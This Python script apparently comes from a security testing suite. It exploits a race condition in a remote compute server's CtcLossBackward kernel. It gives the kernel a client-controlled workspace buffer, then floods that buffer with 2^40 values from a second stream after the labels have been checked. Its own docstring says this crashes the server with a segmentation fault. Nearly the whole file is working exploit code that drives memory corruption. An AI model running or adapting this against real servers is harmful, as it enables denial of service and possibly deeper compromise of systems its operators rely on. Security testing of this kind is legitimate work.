"""CtcLossBackward with the client's own buffer as its workspace, while a second stream of the same session writes
2^40 all over that: the kernel has checked the labels that lie there, and follows them.

Cost: a session, some uploads. Before: the server died (SIGSEGV) at the first or second try.
"""

import struct

import wire
from attack import Attack, Target, run
from sessions import Session

STEPS, SAMPLES, CLASSES, LABELS = 200, 8, 40, 60
WORKSPACE, INPUTS = 1, 2


def ctc_backward() -> bytes:
    width = 2 * LABELS + 1
    zero = {"buffer": INPUTS}
    inputs = [
        wire.repeated("grad_out", [SAMPLES], **zero),
        wire.repeated("log_probs", [STEPS, SAMPLES, CLASSES], **zero),
        wire.repeated("targets", [SAMPLES, LABELS], wire.INT64, **zero),
        wire.repeated("neg_log_likelihood", [SAMPLES], **zero),
        wire.repeated("log_alpha", [SAMPLES, STEPS, width], **zero),
    ]
    return wire.call("CtcLossBackward", inputs, input_lengths=[STEPS] * SAMPLES, target_lengths=[LABELS] * SAMPLES)


def overwrite(target: Target) -> None:
    session = Session(target.connect()).begin(streams=2)
    size = 1 << 20
    session.allocate(WORKSPACE, size)
    session.allocate(INPUTS, 64)
    session.upload(INPUTS, bytes(64))
    # The output stays with the server: its own buffer.
    session.allocate(3, STEPS * SAMPLES * CLASSES * 4)
    the_call = ctc_backward() + wire.field(4, wire.tensor("grad", wire.FLOAT32, [STEPS, SAMPLES, CLASSES], buffer=3))
    planned = session.send(wire.CREATE_EXECUTOR, wire.executor(1, 1, the_call, repeatable=True))
    answers = session.await_answers(planned)
    needed = max((wire.first(each[11][0], 1) or 0 for each in answers if 11 in each), default=0)
    if not 0 < needed <= size:
        raise RuntimeError(f"no workspace, or a large one: {needed}")
    poison = struct.pack("<q", 1 << 40) * (size // 8)
    run_it = wire.field(1, 1) + wire.field(2, 1) + wire.field(3, wire.field(1, WORKSPACE))
    for _ in range(1000):
        session.send_group([session.command(wire.RUN_EXECUTOR, run_it, quiet=True) for _ in range(20)])
        for _ in range(4):
            session.upload(WORKSPACE, poison[: 16 << 10] * 8, stream=2)
        session.await_answers(session.send(wire.SYNCHRONIZE, wire.field(1, 1)))


if __name__ == "__main__":
    run(Attack([overwrite]))
